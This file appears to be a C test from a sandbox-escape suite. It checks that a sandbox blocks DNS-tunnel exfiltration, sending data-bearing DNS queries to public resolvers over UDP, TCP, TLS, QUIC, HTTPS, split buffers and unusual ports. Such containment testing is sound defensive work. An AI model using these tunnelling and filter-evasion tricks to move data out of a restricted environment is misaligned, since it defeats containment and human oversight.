/*
 * Row 106: a tunnel through a resolver: data in names, asked of any server by UDP, TCP, TLS or HTTPS,
 * in the spellings that parsers of port 53 miss. Grants by name are not built: a brane has only the
 * addresses of its manifest, so no resolver is reached at all. Where a resolver's address and port are
 * granted, what is asked of it is not judged.
 */
#include "tests/escape/lib/net.h"

/* A question for TXT of four labels of 63 bytes: 252 bytes to carry off. */
static size_t question(unsigned char *q, bool tcp)
{
	static const unsigned char head[12] = {0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0};
	size_t n = tcp ? 2 : 0;

	memcpy(q + n, head, sizeof(head));
	n += sizeof(head);
	for (int i = 0; i < 3; i++) {
		q[n++] = 63;
		memset(q + n, 'a' + i, 63);
		n += 63;
	}
	memcpy(q + n, "\7example\0\0\20\0\1", 13);
	n += 13;
	if (tcp) {
		q[0] = 0;
		q[1] = (unsigned char)(n - 2);
	}
	return n;
}

static int asked(const char *server, int type, int port, bool connected)
{
	unsigned char q[512];
	struct esc_addr a = esc_addr(server, port);
	size_t n = question(q, type == SOCK_STREAM);
	int ret = esc_world(server, type, port), fd;

	if (ret)
		return ret;
	fd = esc_socket(a.sa.sa_family, type, 0);
	if (!connected)
		return sendto(fd, q, n, 0, &a.sa, a.len) == (ssize_t)n ? 0 : errno;
	if (connect(fd, &a.sa, a.len) < 0)
		return errno;
	return send(fd, q, n, MSG_NOSIGNAL) == (ssize_t)n ? 0 : errno;
}

static int udp(void)
{
	return asked("8.8.8.8", SOCK_DGRAM, 53, false);
}

static int udp_connected(void)
{
	return asked("8.8.8.8", SOCK_DGRAM, 53, true);
}

static int stub(void)
{
	return asked("127.0.0.53", SOCK_DGRAM, 53, false);
}

static int tcp(void)
{
	return asked("8.8.8.8", SOCK_STREAM, 53, true);
}

static int tcp_fast(void)
{
	int ret = esc_world("8.8.8.8", SOCK_STREAM, 53);

	return ret ? ret
		   : esc_sendto(esc_socket(AF_INET, SOCK_STREAM, 0), esc_addr("8.8.8.8", 53),
				MSG_FASTOPEN);
}

static int tls(void)
{
	return asked("9.9.9.9", SOCK_STREAM, 853, true);
}

static int quic(void)
{
	return asked("9.9.9.9", SOCK_DGRAM, 853, false);
}

static int https(void)
{
	return asked("1.1.1.1", SOCK_STREAM, 443, true);
}

static int multicast(void)
{
	return asked("::1", SOCK_DGRAM, 5353, false);
}

/* The header alone in the first buffer: what looks at one buffer sees no name. */
static int split(void)
{
	unsigned char q[512];
	size_t n = question(q, false);
	struct esc_addr a = esc_addr("8.8.8.8", 53);
	struct iovec iov[2] = {{q, 12}, {q + 12, n - 12}};
	struct msghdr m = {
		.msg_name = &a.all, .msg_namelen = a.len, .msg_iov = iov, .msg_iovlen = 2};
	int ret = esc_world("8.8.8.8", SOCK_DGRAM, 53);

	if (ret)
		return ret;
	return sendmsg(esc_socket(AF_INET, SOCK_DGRAM, 0), &m, 0) == (ssize_t)n ? 0 : errno;
}

/* On a port that is not 53. */
static int elsewhere(void)
{
	unsigned char q[512];
	struct esc_addr a = esc_addr("127.0.0.1", esc_num("udp"));
	size_t n = question(q, false);

	return sendto(esc_socket(AF_INET, SOCK_DGRAM, 0), q, n, 0, &a.sa, a.len) == (ssize_t)n
		       ? 0
		       : errno;
}

static const struct esc_try tries[] = {
	{"udp", udp, "net.connect", 1, ESC_OUTSIDE, NULL},
	{"udp-connected", udp_connected, "net.connect", 1, ESC_OUTSIDE, NULL},
	{"local-stub", stub, "net.connect", 1, ESC_OUTSIDE, NULL},
	{"tcp", tcp, "net.connect", 1, ESC_OUTSIDE, NULL},
	{"tcp-fast-open", tcp_fast, "net.connect", 1, ESC_OUTSIDE, NULL},
	{"tls", tls, "net.connect", 1, ESC_OUTSIDE, NULL},
	{"quic", quic, "net.connect", 1, ESC_OUTSIDE, NULL},
	{"https", https, "net.connect", 1, ESC_OUTSIDE, NULL},
	{"mdns-port", multicast, "net.connect", 1, ESC_OUTSIDE, NULL},
	{"two-buffers", split, "net.connect", 1, ESC_OUTSIDE, NULL},
	{"other-port", elsewhere, "net.connect", 1, ESC_INSIDE, NULL},
};

ESC_ROW(106, "DNS tunnel: UDP, TCP, TLS, HTTPS", "no resolver's address is granted", tries);
